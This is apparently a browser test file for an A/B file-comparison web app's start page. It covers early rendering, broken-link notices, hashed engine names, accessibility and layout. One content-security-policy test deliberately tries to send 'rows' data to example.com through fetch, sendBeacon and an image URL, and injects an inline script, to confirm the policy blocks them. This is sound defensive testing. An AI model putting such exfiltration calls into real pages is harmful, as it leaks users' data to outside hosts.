// The first thing a visitor sees, and what the page promises about where files go.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { assertAxeClean } from "../support/axe.mjs";
import { assertNoFaults, newPage, startBrowser, started } from "../support/browser.mjs";
import { startSite } from "../support/site.mjs";

let site, browser;
before(async () => {
  site = await startSite();
  browser = await startBrowser();
});
after(async () => {
  await browser?.close();
  await site?.stop();
});

const headline = (page) => page.getByRole("heading", { level: 1 });

test("the start page is there before any WebAssembly has arrived", async () => {
  const page = await newPage(browser, site);
  const release = site.hold(/\.wasm$/);
  await page.goto(site.url, { waitUntil: "commit" });
  await headline(page).waitFor();
  assert.match(await headline(page).innerText(), /A\/B/);
  assert.ok(await page.getByText("Choose files").isVisible());
  assert.ok(await page.getByRole("link", { name: /new interface/i }).isVisible());
  const font = await headline(page).evaluate((element) => parseFloat(getComputedStyle(element).fontSize));
  assert.ok(font >= 28, `the headline is set in ${font}px: the style sheet is not there`);
  release();
  await started(page);
  assertNoFaults(page);
  await page.context().close();
});

test("a link that was cut says so on the start page", async () => {
  const page = await newPage(browser, site);
  await page.goto(`${site.url}#/lab/eyJzb3VyY2VzIjpb`);
  const notice = page.getByRole("status").filter({ hasText: /This link is incomplete or was changed/ });
  await notice.waitFor();
  assert.ok(await headline(page).isVisible());
  await page.getByRole("button", { name: "Dismiss" }).click();
  await notice.waitFor({ state: "detached" });
  assertNoFaults(page);
  await page.context().close();
});

test("the engine is asked for under a name that changes with its contents", async () => {
  const page = await newPage(browser, site);
  const loader = page.waitForEvent("request", (request) => request.url().includes("_loader.js"));
  const opened = page.goto(site.url);
  assert.match((await loader).url(), /playhead-engine-[0-9a-f]{16}_loader\.js$/);
  await opened;
  assertNoFaults(page);
  await page.context().close();
});

test("the content security policy comes first and is in force", async () => {
  const isBlocked = (fault) => /Content Security Policy|^request: https:\/\/example\.com/.test(fault);
  const page = await newPage(browser, site, { expectFault: isBlocked });
  await page.goto(site.url);
  const policy = await page.evaluate(() => {
    const first = document.head.firstElementChild;
    return first.httpEquiv === "Content-Security-Policy" ? first.content : "";
  });
  for (const rule of ["default-src 'none'", "connect-src 'self'", "script-src 'self' 'wasm-unsafe-eval' 'sha256-"]) {
    assert.ok(policy.includes(rule), `${rule} is missing in: ${policy}`);
  }
  assert.ok(!/'unsafe-inline'|'unsafe-eval'/.test(policy), policy);

  // Attempts that a hole would let through: sending elsewhere, and running a script from text.
  const violations = await page.evaluate(async () => {
    const seen = [];
    document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
    await fetch("https://example.com/", { method: "POST", body: "rows" }).catch(() => {});
    navigator.sendBeacon("https://example.com/", "rows");
    const script = document.createElement("script");
    script.textContent = "window.wasRun = true";
    document.body.append(script);
    const image = document.createElement("img");
    const failed = new Promise((resolve) => (image.onerror = resolve));
    image.src = "https://example.com/?rows";
    await failed;
    return { seen, wasRun: "wasRun" in window };
  });
  assert.equal(violations.wasRun, false);
  for (const directive of ["connect-src", "script-src-elem", "img-src"]) {
    assert.ok(violations.seen.includes(directive), `${directive} let something through: ${violations.seen}`);
  }
  assertNoFaults(page);
  await page.context().close();
});

for (const colorScheme of ["light", "dark"]) {
  test(`axe finds nothing on the start page (${colorScheme})`, async () => {
    const page = await newPage(browser, site, { colorScheme });
    await page.goto(site.url);
    await started(page);
    await assertAxeClean(page, `start, ${colorScheme}`);
    assertNoFaults(page);
    await page.context().close();
  });
}

for (const width of [320, 390, 768]) {
  test(`the start page needs no sideways scrolling at ${width} px`, async () => {
    const page = await newPage(browser, site, { viewport: { width, height: 700 } });
    await page.goto(site.url);
    await started(page);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    assert.ok(overflow <= 0, `${overflow} px wider than the window`);
    assertNoFaults(page);
    await page.context().close();
  });
}
